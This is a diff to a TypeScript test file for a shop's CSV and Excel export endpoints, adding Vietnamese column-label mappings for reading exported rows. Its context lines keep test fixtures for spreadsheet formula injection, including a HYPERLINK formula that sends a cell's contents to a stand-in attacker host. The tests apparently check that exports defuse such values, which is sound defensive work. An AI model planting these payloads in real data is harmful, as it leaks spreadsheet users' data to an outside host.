@@ -1,5 +1,10 @@
 import type { Product } from '@shop/core/schemas/product';
-import { PRODUCT_COLUMNS, type ImportResult } from '@shop/core/schemas/product-tools';
+import {
+  ORDER_COLUMN_LABELS,
+  PRODUCT_COLUMN_LABELS,
+  PRODUCT_COLUMNS,
+  type ImportResult,
+} from '@shop/core/schemas/product-tools';
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
 import { sql } from 'drizzle-orm';
@@ -14,10 +19,20 @@ const t = useTestApp();
 const NAME = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")';
 const EMAIL = '-2+3@ke-xau.example';
 
+/** The exports write Vietnamese headers; the rows are read back under the columns' keys. */
+const KEY_OF = new Map(
+  [...Object.entries(ORDER_COLUMN_LABELS), ...Object.entries(PRODUCT_COLUMN_LABELS)].map(([key, label]) => [
+    label,
+    key,
+  ]),
+);
 async function csvRows(url: string): Promise<Record<string, string>[]> {
   const res = await t.as('admin', { method: 'GET', url });
   expect(res.statusCode, res.body).toBe(200);
-  return Papa.parse<Record<string, string>>(res.rawPayload.toString('utf8').slice(1), { header: true }).data;
+  return Papa.parse<Record<string, string>>(res.rawPayload.toString('utf8').slice(1), {
+    header: true,
+    transformHeader: (label) => KEY_OF.get(label) ?? label,
+  }).data;
 }
 async function xlsxCells(url: string): Promise<unknown[]> {
   const res = await t.as('admin', { method: 'GET', url });
